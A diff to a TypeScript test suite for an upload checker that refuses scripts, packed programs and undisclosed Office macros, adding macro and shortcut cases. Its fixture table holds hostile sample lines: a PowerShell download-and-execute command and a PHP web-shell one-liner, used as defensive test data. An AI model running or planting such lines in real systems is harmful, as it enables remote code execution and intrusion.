@@ -22,6 +22,7 @@ const SCRIPTS = {
   PowerShell: "powershell -enc SQBFAFgA",
   "PowerShell's own": "$c = (New-Object Net.WebClient).DownloadString('http://x'); Invoke-Expression $c",
   "Windows' script host": '<?xml version="1.0"?><job id="x"><script language="VBScript">x</script></job>',
+  "Windows' shortcuts": "[InternetShortcut]\r\nURL=file://server/share/x\r\n",
   PHP: "<?php system($_GET['x']);",
 };
 
@@ -110,6 +111,28 @@ test.each(Object.entries(ARCHIVES))("a program in an archive is refused: %s", as
     expect(await verdictOn(filename, archive), filename).toMatch(
       /^refused: (?:has a file in it with the extension "\.|is a program in a zip)/,
     );
+});
+
+const withMacros = (folder: string) =>
+  zip(["[Content_Types].xml", `${folder}/document.xml`, `${folder}/vbaProject.bin`]);
+
+test.each([
+  ["report.docx", "word"],
+  ["report.doc", "word"],
+  ["figures.XLSX", "xl"],
+  ["slides.pptx", "ppt"],
+  ["files.zip", "word"],
+  ["report.docm.docx", "word"],
+])("macros are refused that the name does not tell of: %s", async (filename, folder) => {
+  expect(await verdictOn(filename, withMacros(folder))).toMatch(/^refused: is a document with macros/);
+});
+
+test("macros that the name tells of pass, and a program beside them is found", async () => {
+  expect(await verdictOn("report.docm", withMacros("word"))).not.toMatch(/^refused/);
+  expect(await verdictOn("figures.XLSM", withMacros("xl"))).not.toMatch(/^refused/);
+  const both = zip(["[Content_Types].xml", "word/vbaProject.bin", "word/embeddings/setup.exe"]);
+  expect(await verdictOn("report.docm", both)).toMatch(/^refused: has a file in it with the extension "\.exe"/);
+  expect(await verdictOn("sources.zip", zip(["report/word/vbaProject.bin"]))).toBe("passes");
 });
 
 test("a packed program is refused", async () => {
